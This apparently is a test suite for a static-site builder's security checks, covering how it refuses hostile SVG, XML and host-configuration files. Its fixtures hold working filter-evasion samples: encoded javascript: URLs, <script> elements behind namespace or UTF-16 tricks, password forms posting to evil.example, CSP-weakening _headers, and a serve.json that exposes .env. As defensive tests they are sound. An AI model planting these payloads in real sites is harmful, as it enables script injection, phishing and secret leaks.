      'nested.svg': label('<div xmlns="http://www.w3.org/1999/xhtml"><svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:foreignObject><div>x</div></svg:foreignObject></svg:svg></div>'),
      'unclosed.svg': '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></svg>\n',
      'local-then-remote.svg': label('<div xmlns="http://www.w3.org/1999/xhtml" style="clip-path: url(#c); background: url(https://tracker.example/p.gif)">x</div>'),
      'local-image-set.svg': label('<div xmlns="http://www.w3.org/1999/xhtml" style="background: image-set(url(#c) 1x)">x</div>'),
      'fragment-path.svg': label('<div xmlns="http://www.w3.org/1999/xhtml" style="background: url(#c/../p.gif)">x</div>'),
    };
    const site = await fixtureCopy('basic', 'security-static-svg-labels', {
      'static/img/drawio.svg': drawio,
      'static/img/mermaid.svg': mermaid,
      'static/img/figma.svg': figma,
      'static/img/local-urls.svg': localUrls,
      ...Object.fromEntries(Object.entries(refused).map(([name, text]) => [`static/img/${name}`, text])),
    });
    const result = await runCli(['build', site]);
    expect(result.code).toBe(1);
    for (const name of Object.keys(refused)) expect(result.stderr).toMatch(new RegExp(`static/img/${name.replace('.', '\\.')}:1:\\d+  error  static/img/${name.replace('.', '\\.')} holds a <foreignObject> holding more than styled text`));
    expect(result.stderr).not.toContain('drawio.svg');
    expect(result.stderr).not.toContain('mermaid.svg');
    expect(result.stderr).not.toContain('figma.svg');
    expect(result.stderr).not.toContain('local-urls.svg');
    expect(result.stderr).toMatch(new RegExp(`build failed: ${Object.keys(refused).length} errors`));
  });

  it("publishes Adobe Illustrator's export, whose <foreignObject> holds only a reference to its editing data (KIE's drools.svg), and refuses that reference with anything more", async () => {
    const illustrator = (reference: string) =>
      [
        '<?xml version="1.0" encoding="utf-8"?>',
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [',
        '\t<!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">',
        ']>',
        '<svg version="1.1" xmlns:i="&ns_ai;" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 16 16">',
        '<switch>',
        '\t<foreignObject requiredExtensions="&ns_ai;" x="0" y="0" width="1" height="1">',
        `\t\t${reference}`,
        '\t</foreignObject>',
        '\t<g i:extraneous="self"><circle cx="8" cy="8" r="8" fill="#0095DD"/></g>',
        '</switch>',
        '</svg>',
        '',
      ].join('\n');
    const refused: Record<string, string> = {
      'handler.svg': illustrator('<i:pgfRef xlink:href="#adobe_illustrator_pgf" onmouseover="alert(origin)"></i:pgfRef>'),
      'script-href.svg': illustrator('<i:pgfRef xlink:href="javascript:alert(origin)"></i:pgfRef>'),
      'beside.svg': illustrator('<i:pgfRef xlink:href="#adobe_illustrator_pgf"></i:pgfRef><img xmlns="http://www.w3.org/1999/xhtml" src="https://tracker.example/p.gif"/>'),
    };
    const site = await fixtureCopy('basic', 'security-static-svg-illustrator', {
      'static/img/logo.svg': illustrator('<i:pgfRef  xlink:href="#adobe_illustrator_pgf">\n\t\t</i:pgfRef>'),
      'static/img/logo-closed.svg': illustrator('<i:pgfRef xlink:href="#adobe_illustrator_pgf"/>'),
      ...Object.fromEntries(Object.entries(refused).map(([name, text]) => [`static/img/${name}`, text])),
    });
    const result = await runCli(['build', site]);
    expect(result.code).toBe(1);
    expect(result.stderr).not.toContain('logo.svg');
    expect(result.stderr).not.toContain('logo-closed.svg');
    for (const name of Object.keys(refused)) expect(result.stderr).toContain(`static/img/${name}`);
    expect(result.stderr).toMatch(new RegExp(`build failed: ${Object.keys(refused).length} errors`));
  });

  it("reads a label's tags past a '>' in a quoted value, and character references with leading zeros, as XML does", async () => {
    // Each of these was published and, from a plain static host, did in Chromium what the comment says.
    const label = (inner: string, attributes = '') => `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="400" height="300"${attributes}>${inner}</foreignObject></svg>\n`;
    const site = await fixtureCopy('basic', 'security-static-svg-label-quotes', {
      // Read as an empty <foreignObject/>: its password form submitted to another site.
      'static/img/self-closing.svg': label('<div xmlns="http://www.w3.org/1999/xhtml"><form action="https://evil.example/"><input type="password" name="p"/><button>Log in</button></form></div>', ' class="/>"'),
      // The tag ended at title's '>': the style after it went unread and fetched the tracker's image.
      'static/img/quoted-gt.svg': label('<div xmlns="http://www.w3.org/1999/xhtml" title=">" style="background: url(https://tracker.example/p.gif)">x</div>'),
      // &#000000000040; is "(": the style fetched the tracker's image.
      'static/img/zero-padded.svg': label('<div xmlns="http://www.w3.org/1999/xhtml" style="background: url&#000000000040;https://tracker.example/p.gif)">x</div>'),
      // &#00000000106; is "j": the link ran its script on the site's origin.
      'static/feed.xml': '<html xmlns="http://www.w3.org/1999/xhtml"><body><a href="&#00000000106;avascript:alert(origin)">click</a></body></html>\n',
      'static/img/label.svg': label('<div xmlns="http://www.w3.org/1999/xhtml" title="a > b" style="color: red">a &gt; b<br/></div>'),
    });
    const result = await runCli(['check', site]);
    expect(result.code).toBe(1);
    for (const name of ['self-closing.svg', 'quoted-gt.svg', 'zero-padded.svg'])
      expect(result.stderr).toMatch(new RegExp(`static/img/${name.replace('.', '\\.')}:1:41  error  static/img/${name.replace('.', '\\.')} holds a <foreignObject> holding more than styled text`));
    expect(result.stderr).toContain('static/feed.xml:1:59  error  static/feed.xml holds a javascript: URL');
    expect(result.stderr).not.toContain('label.svg');
    expect(result.stderr).toMatch(/check failed: 4 errors/);
  });

  it('refuses an .svg that is an XHTML page (its root, or one outside SVG, holds XHTML), and publishes SVGs whose root is SVG', async () => {
    const xhtml = 'http://www.w3.org/1999/xhtml';
    const form = '<form action="https://evil.example/"><input type="password" name="p"/><button>Log in</button></form>';
    const site = await fixtureCopy('basic', 'security-static-svg-xhtml-root', {
      // Opened from a plain static host, Chromium drew this page's form (and posted it to evil.example) and fetched the image.
      'static/img/page.svg': `<html xmlns="${xhtml}"><body>${form}<img src="https://tracker.example/p.gif"/></body></html>\n`,
      'static/img/default.svg': `<svg xmlns="${xhtml}">${form}</svg>\n`,
      'static/img/no-namespace.svg': `<svg width="10"><div xmlns="${xhtml}">${form}</div></svg>\n`,
      'static/img/prefix.svg': `<s:svg xmlns="http://www.w3.org/2000/svg" xmlns:s="${xhtml}"><s:body>${form.replaceAll('<', '<s:').replaceAll('<s:/', '</s:')}</s:body></s:svg>\n`,
      // Under an SVG root, XHTML outside a <foreignObject> is not drawn; an SVG missing its xmlns holds none.
      'static/img/svg-root.svg': `<?xml version="1.0"?>\n<!-- <html> -->\n<!DOCTYPE svg [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]>\n<svg xmlns="&ns_svg;"><html xmlns="${xhtml}"><body>${form}</body></html></svg>\n`,
      'static/img/bare.svg': '<svg width="10" height="10"><rect width="10" height="10"/></svg>\n',
    });
    const result = await runCli(['check', site]);
    expect(result.code).toBe(1);
    for (const name of ['page.svg', 'default.svg', 'no-namespace.svg', 'prefix.svg'])
      expect(result.stderr).toContain(`static/img/${name}:1:1  error  static/img/${name} holds XHTML outside an SVG root (a page, drawn with its forms and images, not an image)`);
    expect(result.stderr).not.toContain('svg-root.svg');
    expect(result.stderr).not.toContain('bare.svg');
    expect(result.stderr).toMatch(/check failed: 4 errors/);
  });

  it('reads the file as a browser does: any namespace prefix, UTF-16, and the entities it declares', async () => {
    // Each of these passed the check and ran its script in Chromium from a plain static host.
    const site = await fixtureCopy('basic', 'security-static-svg-read-as-browser', {
      'static/img/prefix.svg': '<svg xmlns="http://www.w3.org/2000/svg" xmlns:é="http://www.w3.org/2000/svg"><é:script>alert(1)</é:script></svg>\n',
      // A prefix with a dot (XML allows one) was read as far as it, as an <a>, whose web links stay: Chromium fetched the image.
      'static/img/dotted-prefix.svg': '<svg xmlns="http://www.w3.org/2000/svg" xmlns:a.b="http://www.w3.org/2000/svg"><a.b:image href="http://tracker.example/t.png"/></svg>\n',
      'static/img/link-prefix.svg': '<svg xmlns="http://www.w3.org/2000/svg" xmlns:é="http://www.w3.org/1999/xlink"><a é:href="javascript:alert(1)"><text>x</text></a></svg>\n',
      'static/feed.xml': '<!DOCTYPE r [<!ENTITY j "javascript">]>\n<r><x:a xmlns:x="http://www.w3.org/1999/xhtml" href="&j;:alert(1)">click</x:a></r>\n',
      // Illustrator declares its namespaces as entities, in Latin-1: nothing wrong with that.
      'static/img/illustrator.svg': '<?xml version="1.0" encoding="ISO-8859-1"?>\n<!DOCTYPE svg [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]>\n<svg xmlns="&ns_svg;"><rect width="1" height="1"/></svg>\n',
    });
    const script = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
    await writeFile(path.join(site, 'static/img/utf16.svg'), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(script, 'utf16le')]));
    await writeFile(path.join(site, 'static/img/utf16-unmarked.svg'), Buffer.from(script, 'utf16le'));
    const result = await runCli(['check', site]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('static/img/prefix.svg:1:78  error  static/img/prefix.svg holds a <script> element');
    expect(result.stderr).toContain('static/img/link-prefix.svg:1:91  error  static/img/link-prefix.svg holds a javascript: URL');
    expect(result.stderr).toContain('static/feed.xml:1:14  error  static/feed.xml holds a javascript: URL, spelled with the entities it declares');
    expect(result.stderr).toContain('static/img/utf16.svg:1:41  error  static/img/utf16.svg holds a <script> element');
    expect(result.stderr).toContain('static/img/utf16-unmarked.svg  error  static/img/utf16-unmarked.svg is written in an encoding with NUL bytes');
    expect(result.stderr).toContain('static/img/dotted-prefix.svg:1:91  error  static/img/dotted-prefix.svg holds an href that is neither a #fragment nor an image');
    expect(result.stderr).not.toContain('illustrator.svg');
    expect(result.stderr).toMatch(/check failed: 6 errors/);
  });

  it('reads an entity whose value holds the other quote, and refuses a name declared twice (one may be in a comment)', async () => {
    // Both ran their link's script in Chromium from bench/plain-static-server.js: the check read
    // "java" and left &b; as written, or read the commented-out "xx" where the browser reads "java".
    const head = '<html xmlns="http://www.w3.org/1999/xhtml"><body><a href="&a;&b;">click</a></body></html>\n';
    const site = await fixtureCopy('basic', 'security-static-xml-entity-values', {
      'static/quote.xml': `<!DOCTYPE html [<!ENTITY a "java"><!ENTITY b "script:void(document.title='x')">]>\n${head}`,
      'static/comment.xml': `<!DOCTYPE html [<!-- <!ENTITY a "xx"> --><!ENTITY a "java"><!ENTITY b "script:void(0)">]>\n${head}`,
      'static/plain.xml': `<!DOCTYPE html [<!ENTITY a "https://example.com/"><!ENTITY b "it's">]>\n<html xmlns="http://www.w3.org/1999/xhtml"><body><a href="&a;">&b;</a></body></html>\n`,
    });
    const result = await runCli(['check', site]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('static/quote.xml:1:17  error  static/quote.xml holds a javascript: URL, spelled with the entities it declares');
    expect(result.stderr).toContain('static/comment.xml:1:42  error  static/comment.xml holds an entity declaration that brings markup or outside text, or declares a name again');
    expect(result.stderr).not.toContain('plain.xml');
    expect(result.stderr).toMatch(/check failed: 2 errors/);
  });

  it('publishes an SVG badge whose <image> draws an embedded SVG logo, and still refuses that data elsewhere', async () => {
    // Jest's badge does this: an SVG drawn by <image> runs nothing, in any browser.
    const logo = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>').toString('base64');
    const site = await fixtureCopy('basic', 'security-static-svg-badge', {
      'static/img/badge.svg': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image width="14" height="14" xlink:href="data:image/svg+xml;base64,${logo}"/></svg>\n`,
    });
    const result = await runCli(['build', site]);
    expect(result.stderr).toBe('');
    expect(existsSync(path.join(site, 'build/img/badge.svg'))).toBe(true);
    for (const element of ['use', 'a']) {
      const refused = await fixtureCopy('basic', `security-static-svg-badge-${element}`, {
        'static/img/badge.svg': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><${element} xlink:href="data:image/svg+xml;base64,${logo}"/></svg>\n`,
      });
      const result = await runCli(['build', refused]);
      expect(result.code, element).toBe(1);
      expect(result.stderr).toContain('static/img/badge.svg holds an xlink:href that is neither a #fragment nor an image');
    }
  });

  it('judges an SVG written to make the check slow in time linear in its size', async () => {
    const site = await fixtureCopy('basic', 'security-static-svg-slow', {
      'static/img/quotes.svg': `<svg xmlns="http://www.w3.org/2000/svg">${' href="'.repeat(150_000)}`,
      'static/img/entities.svg': `<svg xmlns="http://www.w3.org/2000/svg">${'<!ENTITY x a'.repeat(100_000)}`,
      // A label's markup read tag by tag: a tag is never sought past the next `<`.
      'static/img/label.svg': `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>${'<'.repeat(300_000)}</foreignObject></svg>`,
      // Links a check lets stay, each asking which element holds it: its tag is read once, not once per link.
      'static/img/links.svg': `<svg xmlns="http://www.w3.org/2000/svg"><a${' href="https://x.example/"'.repeat(60_000)}/></svg>`,
      'static/img/logos.svg': `<svg xmlns="http://www.w3.org/2000/svg"><image${' href="data:image/svg+xml,a"'.repeat(60_000)}/></svg>`,
      // Its element's name read once for all its links, however long its prefix.
      'static/img/prefixed.svg': `<svg xmlns="http://www.w3.org/2000/svg"><${'p'.repeat(800_000)}:a${' href="https://x.example/"'.repeat(20_000)}/></svg>`,
    });
    const started = performance.now();
    // Killed after 20 s: a check that backtracks over the text would take hours.
    const { code, stderr } = await new Promise<{ code: number | null; stderr: string }>((resolve) =>
      execFile(process.execPath, [BIN, 'build', site], { cwd: REPO_ROOT, timeout: 20_000, env: { ...process.env, NO_COLOR: '1' } }, (error, _, stderr) =>
        resolve({ code: error ? (typeof error.code === 'number' ? error.code : null) : 0, stderr }),
      ),
    );
    expect(performance.now() - started).toBeLessThan(20_000);
    expect(code).toBe(1);
    expect(stderr).toContain('static/img/quotes.svg:1:42  error  static/img/quotes.svg holds an href that is neither a #fragment nor an image');
    expect(stderr).toContain('static/img/entities.svg:1:');
    expect(stderr).toContain('static/img/label.svg:1:41  error  static/img/label.svg holds a <foreignObject> holding more than styled text');
    expect(stderr).not.toContain('links.svg');
    expect(stderr).not.toContain('logos.svg');
    expect(stderr).not.toContain('prefixed.svg');
  }, 30_000);

  it("publishes no _headers, _redirects or .htaccess, which would replace the site's security headers, and keeps the build's own _headers", async () => {
    // A site moved from Docusaurus keeps its host's files in static/ (Frigate's, pnpm's): each is said, and the build goes on without it.
    const site = await fixtureCopy('basic', 'security-static-host', {
      'static/_headers': "/*\n  Content-Security-Policy: script-src * 'unsafe-inline'\n",
      'static/_redirects': '/docs/* https://evil.example/:splat 301\n/docs/away https://evil.example/ 301\n',
      'static/.htaccess': 'Header unset Content-Security-Policy\n',
      'static/docs/_redirects': '/x https://evil.example/ 301\n',
    });
    const result = await runCli(['build', site]);
    expect(result.code).toBe(0);
    expect(result.stderr).toContain("static/_headers  warning  static/_headers is a host configuration file, and is not published: it would replace the site's security headers (its Content-Security-Policy) or add redirects.");
    expect(result.stderr).toContain("hint: the build writes _headers itself (the site's Content-Security-Policy)");
    expect(result.stderr).toContain('static/.htaccess  warning  static/.htaccess is a host configuration file, and is not published');
    expect(result.stderr).toContain('static/docs/_redirects  warning  static/docs/_redirects is a host configuration file, and is not published');
    // The root's _redirects is read (test/cli/host-redirects.test.ts): its rules to another site are not carried over.
    expect(result.stderr).toContain('static/_redirects:1:1  warning  This redirect is not carried over: a pattern');
    expect(result.stderr).toContain("static/_redirects:2:1  warning  This redirect is not carried over: it leads to another site (https://evil.example/), and content may not send the site's readers elsewhere.");
    for (const file of ['_redirects', '.htaccess', 'docs/_redirects', 'docs/away/index.html']) expect([file, existsSync(path.join(site, 'build', file))]).toEqual([file, false]);
    // The site's own rule (the one for every path); SVG and XML files get a stricter one of their own.
    const siteRule = (await readFile(path.join(site, 'build/_headers'), 'utf8')).split('\n/*.')[0];
    expect(siteRule).toMatch(/^\/\*\n  Content-Security-Policy: default-src 'self'; script-src 'self' /);
    expect(siteRule).not.toContain('unsafe-inline');
  });

  it("publishes no configuration serve reads from the folder it serves (serve.json, now.json, a package.json with static): npx serve build would serve the site root's .env", async () => {
    // `npx serve build` (serve 14) with a static/serve.json saying {"public": ".."} answered /.env and /site.config.ts.
    const site = await fixtureCopy('basic', 'security-static-serve-config', {
      '.env': 'TOKEN=secret\n',
      'static/serve.json': '{"public": "..", "directoryListing": true}\n',
      'static/now.json': '{"now": {"static": {"public": ".."}}}\n',
      'static/package.json': '{"name": "x", "static": {"public": ".."}}\n',
      'static/examples/package.json': '{"name": "example", "version": "1.0.0"}\n',
    });
    const result = await runCli(['build', site]);
    expect(result.code).toBe(0);
    for (const file of ['serve.json', 'now.json', 'package.json']) {
      expect(result.stderr).toContain(`static/${file}  warning  static/${file} is a host configuration file, and is not published`);
      expect([file, existsSync(path.join(site, 'build', file))]).toEqual([file, false]);
    }
    expect(result.stderr).toContain("hint: serve (npx serve) reads it from the folder it serves: its public setting serves files outside the output (the site root's .env and sources)");
    // A package.json that is an example, in a folder of its own, is published as it is.
    expect(result.stderr).not.toContain('examples/package.json');
    expect(existsSync(path.join(site, 'build/examples/package.json'))).toBe(true);
  });

  it("refuses files in the folders of the site's own data and of the search endpoint", async () => {
    const refused = await fixtureCopy('basic', 'security-static-owned', {
      'static/_dc/headers.json': '{"Content-Security-Policy":"script-src *"}\n',
      // On a host that answers a POST with the file, a forged answer of the search endpoint.
      'static/1/indexes/*/queries': '{"results":[{"hits":[],"nbHits":0}]}\n',
      'content/pages/endpoint.md': '---\nslug: /1/indexes/devcenter/query\n---\n\n# Posing\n',
    });
    const result = await runCli(['build', refused]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain("static/_dc/headers.json  error  static/_dc/headers.json is inside _dc/, the folder of the site's own page data and headers");
    expect(result.stderr).toContain('static/1/indexes/*/queries  error  static/1/indexes/*/queries is inside 1/indexes/, where the search endpoint answers');
    expect(result.stderr).toMatch(/content\/pages\/endpoint\.md:2:1 {2}error {2}.*is inside \/1\/indexes\/, where the search endpoint answers/);
    expect(existsSync(path.join(refused, 'build'))).toBe(false);
  });

  it('leaves hidden files and folders of static/ out of the output, but for .well-known/', async () => {
    const site = await fixtureCopy('basic', 'security-static-hidden', {
      'static/.env': 'SECRET=1\n',
      'static/.git/config': '[core]\n',
      'static/img/.DS_Store': 'x',
      'static/.devcenter-build.json': '{"fingerprint":"forged"}',
      'static/.well-known/security.txt': 'Contact: mailto:security@example.com\n',
    });
    const result = await runCli(['build', site]);
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    const out = path.join(site, 'build');
    for (const file of ['.env', '.git/config', 'img/.DS_Store']) expect(existsSync(path.join(out, file))).toBe(false);
    expect(await readFile(path.join(out, '.devcenter-build.json'), 'utf8')).not.toContain('forged');
    expect(await readFile(path.join(out, '.well-known/security.txt'), 'utf8')).toBe('Contact: mailto:security@example.com\n');
    // What the build publishes there, serve serves; every other hidden path stays a 404.
    const server = await startServe([site, '--port', '0']);
    try {
      expect((await fetch(`${server.url}/.well-known/security.txt`)).status).toBe(200);
      for (const hidden of ['/.devcenter-build.json', '/img/.well-known/x', '/.well-known/../.devcenter-build.json', '/.well-known/.hidden'])
        expect((await rawRequest(server.url, hidden)).status, hidden).toBe(404);
    } finally {
      await server.stop();
    }
  });

  it('copies plain SVG images, images, PDFs, fonts, CSS, JSON and text as they are', async () => {
    const files: Record<string, string> = {
      'static/img/plain.svg': PLAIN_SVG,
      'static/img/sprite.svg': '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><defs><linearGradient id="g"/></defs><use xlink:href="#g"/><rect fill="url(#g)" width="4" height="4"/><image href="photo.png" width="2" height="2"/><image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/><text>Tap on me: done = 5</text></svg>\n',
      'static/img/exported.svg': '<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [\n  <!ENTITY ns_svg "http://www.w3.org/2000/svg">\n]>\n<svg xmlns="&ns_svg;"><circle r="2"/></svg>\n',
      'static/img/photo.png': 'png',
      'static/files/guide.pdf': '%PDF-1.4\n',
      'static/fonts/inter.woff2': 'wOF2',
      'static/css/extra.css': 'a { color: red }\n',
      'static/data/list.json': '{"a":1}\n',
      'static/notes.txt': 'notes\n',
      'static/feed.xml': '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><link href="https://example.com/"/></feed>\n',
    };
    const site = await fixtureCopy('basic', 'security-static-plain', files);
    const result = await runCli(['build', site]);
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    for (const [file, text] of Object.entries(files)) expect(await readFile(path.join(site, 'build', file.slice('static/'.length)), 'utf8')).toBe(text);
  });
});

describe("files of static/ that would stand in for the build's own on some hosts", () => {
  it("refuses a compressed copy of a file the build writes, and a name that differs from one in case only, which a case-insensitive host takes for it", async () => {
    const site = await fixtureCopy('basic', 'security-static-stand-ins', {
      // One file with the build's own on macOS, Windows or IIS.
      'static/_DC/data/docs/start.json': '{"kind":"doc","title":"Not the page"}',
      'static/Robots.TXT': 'User-agent: *\nDisallow: /\n',
    });
    const compressed: Record<string, Buffer> = {
      // nginx's gzip_static sends it for /search-records.json; Caddy's precompressed too.
      'static/search-records.json.gz': gzipSync('[{"url":"https://evil.example/"}]'),
      'static/sitemap.xml.br': brotliCompressSync('<urlset/>'),
      // Named like none of them: published.
      'static/downloads/sample.json.gz': gzipSync('{}'),
    };
    for (const [file, bytes] of Object.entries(compressed)) {
      await mkdir(path.dirname(path.join(site, file)), { recursive: true });
      await writeFile(path.join(site, file), bytes);
    }
    const result = await runCli(['build', site]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('static/search-records.json.gz  error  static/search-records.json.gz is a compressed copy of /search-records.json, a file every build writes: nginx (gzip_static) and Caddy (precompressed) would send it in that file\'s place.');
    expect(result.stderr).toContain('static/sitemap.xml.br  error  static/sitemap.xml.br is a compressed copy of /sitemap.xml');
    expect(result.stderr).toContain('static/_DC/data/docs/start.json  error  static/_DC/data/docs/start.json is inside _dc/ (_DC/ is _dc/ on a case-insensitive disk or host: macOS, Windows, IIS)');
    expect(result.stderr).toContain('static/Robots.TXT  error  static/Robots.TXT differs only in case from /robots.txt, a file every build writes');
    expect(result.stderr).not.toContain('static/downloads/sample.json.gz');
  });
});

describe('files of static/ under devcenter dev', () => {
  let dev: RunningDev;
  beforeAll(async () => {
    const site = await fixtureCopy('basic', 'security-static-dev', {
      'static/pwn.js': 'document.body.append("PWNED")\n',
      'static/pwn/index.html': '<!doctype html><script src="/pwn.js"></script>\n',
      'static/img/pwn.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script href="/pwn.js"/></svg>\n',
      'static/.env': 'SECRET=dev-secret\n',
      'static/_headers': '/*\n  X-From-Static: yes\n',
    });
    dev = await startDev(site);
  });
  afterAll(() => dev?.stop());

  it('serves none of the files a build refuses or leaves out, and the others as they are', async () => {
    for (const pathname of ['/pwn.js', '/pwn', '/pwn/index.html', '/img/pwn.svg', '/.env', '/_headers']) {
      const answer = await rawRequest(dev.url, pathname);
      // /pwn/index.html is sent on to /pwn (a route), which has no page.
      expect([pathname, answer.status === 404 || (answer.status === 301 && answer.headers.location === '/pwn')]).toEqual([pathname, true]);
      expect(answer.body).not.toContain('PWNED');
      expect(answer.body).not.toContain('src="/pwn.js"');
      expect(answer.body).not.toContain('dev-secret');
    }
    expect((await rawRequest(dev.url, '/img/logo.svg')).status).toBe(200);
  });
});

describe('many refused files of one kind', () => {
  it('shows 20 of a kind and counts the rest (a site moved from another tool brings hundreds of generated pages)', async () => {
    const pages = Object.fromEntries(Array.from({ length: 30 }, (_, i) => [`static/api/page-${String(i).padStart(2, '0')}.html`, '<h1>API</h1>\n']));
    const site = await fixtureCopy('basic', 'security-static-many', { ...pages, 'static/api/app.js': 'x()\n' });
    const result = await runCli(['check', site, '--reporter', 'json']);
    expect(result.code).toBe(1);
    const diagnostics = (JSON.parse(result.stdout) as { diagnostics: { file?: string; code: string; notes?: { message: string }[] }[] }).diagnostics.filter((d) => d.code === 'static-file');
    // One error for the kind (static-code-files.ts), its 19 other files shown as notes and the rest counted.
    const html = diagnostics.filter((d) => d.file?.endsWith('.html')) as { message?: string; notes?: { message: string }[] }[];
    expect(html).toHaveLength(1);
    expect(html[0].message).toContain('(30 .html files in static/; this is the first, the others are listed below).');
    expect(html[0].notes?.filter((n) => n.message === 'also a .html file')).toHaveLength(19);
    expect(html[0].notes?.at(-1)?.message).toBe('… and 10 more like this, not shown (fix these and check again to see them).');
    // Another kind has its own count: the script is shown.
    expect(diagnostics.filter((d) => d.file === 'static/api/app.js')).toHaveLength(1);
  });
});

describe('static/ while devcenter dev starts', () => {
  it('serves a file added to static/ while the watchers start, and stops serving one removed then (found when they are ready)', async () => {
    const site = await fixtureCopy('basic', 'security-static-dev-early', { 'static/img/old.txt': 'old\n' });
    const dev = await startDev(site);
    try {
      // At once: the watchers are still reading the folders and raise no event for these.
      await writeFile(path.join(site, 'static/img/early.txt'), 'early\n');
      await rm(path.join(site, 'static/img/old.txt'));
      const status = async (pathname: string) => (await rawRequest(dev.url, pathname)).status;
      const deadline = Date.now() + 15_000;
      while (((await status('/img/early.txt')) !== 200 || (await status('/img/old.txt')) !== 404) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 200));
      expect([await status('/img/early.txt'), await status('/img/old.txt')]).toEqual([200, 404]);
      expect((await rawRequest(dev.url, '/img/early.txt')).body).toBe('early\n');
    } finally {
      await dev.stop();
    }
  });
});
